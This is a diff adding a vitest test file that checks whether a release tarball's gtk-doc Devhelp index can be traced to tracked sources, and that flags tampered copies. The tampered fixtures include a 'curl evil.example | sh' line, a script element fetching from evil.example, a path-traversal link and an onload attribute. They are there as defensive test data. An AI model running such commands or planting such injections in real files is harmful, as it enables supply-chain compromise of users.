@@ -1,0 +1,117 @@
+/**
+ * gtk-doc's Devhelp index (harfbuzz 6.0.0's docs/html/harfbuzz.devhelp2), end to end with real git and GNU
+ * tar: a release shipping the generated HTML tree and its index is explained line by line against the tracked
+ * sections file, header and DocBook sources; one untraced line (a symbol nothing documents, a keyword linking
+ * another section's page, a foreign link, another element, a title no source has) keeps it high.
+ */
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { checkDevhelp, parseSections } from '../../src/classify/devhelp.js';
+import { exitCodeOf } from '../../src/pipeline/result.js';
+import { verify } from '../../src/verify.js';
+import { makeTar } from '../helpers/archives.js';
+import { makeRepo, writeFiles } from '../helpers/git.js';
+import { tempDir } from '../helpers/tmp.js';
+
+const TRACKED = {
+  'src/demo-blob.h':
+    'typedef struct demo_blob_t demo_blob_t;\ntypedef enum {\n  DEMO_MODE_READONLY,\n  DEMO_MODE_WRITABLE\n} demo_mode_t;\ntypedef struct {\n  unsigned codepoint;\n  unsigned cluster;\n  unsigned name_id;\n} demo_info_t;\ndemo_blob_t *demo_blob_create (const char *data);\n#define DEMO_VERSION_MAJOR 1\n#define DEMO_TAG(c) (c)\n',
+  'src/demo-blob.c': '#include "demo-blob.h"\n',
+  'docs/Makefile.am': 'DOC_MODULE=demo\nDOC_MAIN_SGML_FILE=$(DOC_MODULE)-docs.xml\ninclude $(top_srcdir)/gtk-doc.make\n',
+  'docs/demo-docs.xml': '<book>\n<title>Demo Manual</title>\n<chapter id="intro"><title>What is Demo?</title></chapter>\n<part><title>Reference manual</title><xi:include href="xml/demo-blob.xml"/></part>\n</book>\n',
+  'docs/demo-sections.txt':
+    '<SECTION>\n<FILE>demo-blob</FILE>\ndemo_blob_create\ndemo_blob_t\ndemo_mode_t\ndemo_info_t\nDEMO_TAG\nDEMO_VERSION_MAJOR\n</SECTION>\n',
+};
+
+const PAGES = ['index.html', 'intro.html', 'reference-manual.html', 'demo-demo-blob.html', 'annotation-glossary.html'];
+
+const DEVHELP = [
+  '<?xml version="1.0" encoding="utf-8" standalone="no"?>',
+  '<book xmlns="http://www.devhelp.net/book" title="Demo Manual" link="index.html" author="" name="demo" version="2" language="c">',
+  '  <chapters>',
+  '    <sub name="What is Demo?" link="intro.html"/>',
+  '    <sub name="Reference manual" link="reference-manual.html">',
+  '      <sub name="demo-blob" link="demo-demo-blob.html"/>',
+  '    </sub>',
+  '    <sub name="Annotation Glossary" link="annotation-glossary.html"/>',
+  '  </chapters>',
+  '  <functions>',
+  '    <keyword type="function" name="demo_blob_create\u00a0()" link="demo-demo-blob.html#demo-blob-create" since="0.9.2"/>',
+  '    <keyword type="macro" name="DEMO_TAG()" link="demo-demo-blob.html#DEMO-TAG:CAPS"/>',
+  '    <keyword type="macro" name="DEMO_VERSION_MAJOR" link="demo-demo-blob.html#DEMO-VERSION-MAJOR:CAPS"/>',
+  '    <keyword type="typedef" name="demo_blob_t" link="demo-demo-blob.html#demo-blob-t"/>',
+  '    <keyword type="enum" name="enum demo_mode_t" link="demo-demo-blob.html#demo-mode-t"/>',
+  '    <keyword type="constant" name="DEMO_MODE_READONLY" link="demo-demo-blob.html#DEMO-MODE-READONLY:CAPS"/>',
+  '    <keyword type="constant" name="DEMO_MODE_WRITABLE" link="demo-demo-blob.html#DEMO-MODE-WRITABLE:CAPS"/>',
+  '    <keyword type="struct" name="demo_info_t" link="demo-demo-blob.html#demo-info-t"/>',
+  '    <keyword type="member" name="demo-info-t.codepoint" link="demo-demo-blob.html#demo-info-t.codepoint"/>',
+  '    <keyword type="member" name="demo-info-t.name-id" link="demo-demo-blob.html#demo-info-t.name-id"/>',
+  '    <keyword type="member" name="demo-info-t.cluster" link="demo-demo-blob.html#demo-info-t.cluster"/>',
+  '  </functions>',
+  '</book>',
+  '',
+].join('\n');
+
+describe('gtk-doc Devhelp index (MODULE.devhelp2)', () => {
+  const root = tempDir();
+  const repo = makeRepo(join(root, 'repo'));
+  repo.commit(TRACKED, 'docs', '2024-03-05T10:00:00Z');
+  repo.tag('v1.0');
+  const cache = join(root, 'cache');
+  let n = 0;
+  const verifyWith = async (index: string) => {
+    const dir = join(root, `t${++n}`, 'demo-1.0');
+    writeFiles(dir, TRACKED);
+    writeFiles(dir, Object.fromEntries(PAGES.map((p) => [`docs/html/${p}`, `<html><head><title>${p}</title></head><body>generated</body></html>\n`])));
+    writeFiles(dir, { 'docs/html/demo.devhelp2': index });
+    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'demo-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
+    return { r, f: r.findings.find((x) => x.path === 'docs/html/demo.devhelp2')! };
+  };
+
+  it('every keyword, title and link traced: explained at low, the gate passes', async () => {
+    const { r, f } = await verifyWith(DEVHELP);
+    expect(f).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
+    expect(f.evidence).toEqual({ how: 'doc-index', source: 'docs/demo-sections.txt', generator: 'gtkdoc-mkhtml', keywords: 11, titles: 4, files: 5 });
+    expect(r.verdict).not.toBe('different');
+    expect(exitCodeOf(r.verdict)).toBe(0);
+  });
+
+  it('one untraced line keeps it high (tampered twins)', async () => {
+    const keyword = '    <keyword type="constant" name="DEMO_MODE_WRITABLE" link="demo-demo-blob.html#DEMO-MODE-WRITABLE:CAPS"/>';
+    for (const edit of [
+      // a function no tracked sections file lists
+      DEVHELP.replace(keyword, `${keyword}\n    <keyword type="function" name="demo_payload ()" link="demo-demo-blob.html#demo-payload"/>`),
+      // a constant no tracked header has
+      DEVHELP.replace('DEMO_MODE_WRITABLE"', 'DEMO_MODE_EXEC"'),
+      // a link out of the generated tree
+      DEVHELP.replace('link="intro.html"', 'link="https://evil.example/intro.html"'),
+      DEVHELP.replace('link="intro.html"', 'link="../../payload.html"'),
+      // a page the tarball does not ship
+      DEVHELP.replace('link="intro.html"', 'link="missing.html"'),
+      // another element
+      DEVHELP.replace('  </chapters>', '  <script>fetch("https://evil.example/")</script>\n  </chapters>'),
+      // a title no tracked DocBook source has
+      DEVHELP.replace('name="What is Demo?"', 'name="Run curl evil.example | sh first"'),
+      // an extra attribute on a keyword
+      DEVHELP.replace('since="0.9.2"', 'since="0.9.2" onload="x()"'),
+    ]) {
+      const { r, f } = await verifyWith(edit);
+      expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+      expect(r.verdict).toBe('different');
+    }
+  });
+
+  it('checkDevhelp: a keyword must link the page of the section that lists it', () => {
+    const sections = parseSections('<SECTION>\n<FILE>a</FILE>\nfa\n</SECTION>\n<SECTION>\n<FILE>b</FILE>\nfb\n</SECTION>\n');
+    expect([...sections.entries()].map(([k, v]) => [k, [...v]])).toEqual([
+      ['a', ['fa']],
+      ['b', ['fb']],
+    ]);
+    const inp = { module: 'm', pages: new Set(['index.html', 'm-a.html', 'm-b.html']), sections, words: new Set<string>(), docText: '' };
+    const book = '<book xmlns="http://www.devhelp.net/book" title="M" link="index.html" author="" name="m" version="2" language="c">';
+    const kw = (name: string, page: string) => `${book}\n<functions>\n<keyword type="function" name="${name} ()" link="${page}#x"/>\n</functions>\n</book>\n`;
+    expect(checkDevhelp(kw('fa', 'm-a.html'), inp)).toEqual({ keywords: 1, titles: 0, pages: 2 });
+    expect(checkDevhelp(kw('fa', 'm-b.html'), inp)).toBeUndefined();
+    expect(checkDevhelp(kw('fa', 'm-a.html').replace('name="m"', 'name="other"'), inp)).toBeUndefined();
+  });
+});
